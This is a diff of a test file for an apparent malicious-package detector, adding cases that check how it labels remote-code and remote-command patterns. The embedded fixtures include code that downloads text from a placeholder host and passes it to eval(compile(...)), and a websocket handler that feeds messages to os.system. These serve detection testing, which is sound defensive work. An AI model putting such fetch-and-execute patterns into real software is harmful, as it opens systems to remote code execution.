@@ -7,7 +7,7 @@ import pytest
 from bonded.facts import prefilter
 from bonded.facts.known import canonical
 from bonded.facts.model import Call
-from bonded.facts.value import CHARS, DECODED, DOWNLOADED, EMBEDDED, MESSAGE
+from bonded.facts.value import CHARS, CODE, DECODED, DOWNLOADED, EMBEDDED, MESSAGE
 from bonded.values.finding import When
 from tests.facts.programs import wheel_of
 
@@ -141,6 +141,30 @@ def test_what_answers_on_a_line_is_heard_wherever_it_stands(first: bool) -> None
     listens = "def listen():\n    websocket.WebSocketApp('wss://a.example.invalid', on_message=answer).run_forever()\n"
     source = f"import os, websocket\n{answers if first else listens}{listens if first else answers}listen()"
     assert MESSAGE in labels(source, "os.system")
+
+
+def test_of_a_compiled_expression_eval_runs_no_more_than_that() -> None:
+    source = "import httpx\ntext = httpx.get('https://a.example.invalid').json()['x']\neval(compile(text, 'x', '{}'))"
+    assert CODE in labels(source.format("exec"), "builtins.eval")
+    assert CODE not in labels(source.format("eval"), "builtins.eval")
+
+
+@pytest.mark.parametrize(("start", "when"), [("", When.IMPORT), ("def start():\n    ", When.CALL)])
+def test_javascript_runs_when_python_hands_it_to_its_interpreter(start: str, when: When) -> None:
+    source = f"import subprocess\n{start}subprocess.run(['node', 'sample/index.js'])"
+    (script,) = wheel_of({"sample/__init__.py": source, "sample/index.js": "eval('1')"}).scripts
+    assert (script.language, script.when) == ("JavaScript", when)
+
+
+def test_what_a_loop_of_a_web_framework_is_given_answers_nobody() -> None:
+    source = """
+import os, tornado.ioloop
+def show(place):
+    os.system(place)
+def start(place):
+    tornado.ioloop.IOLoop.current().spawn_callback(show, place)
+"""
+    assert MESSAGE not in labels(source, "os.system")
 
 
 @pytest.mark.parametrize(
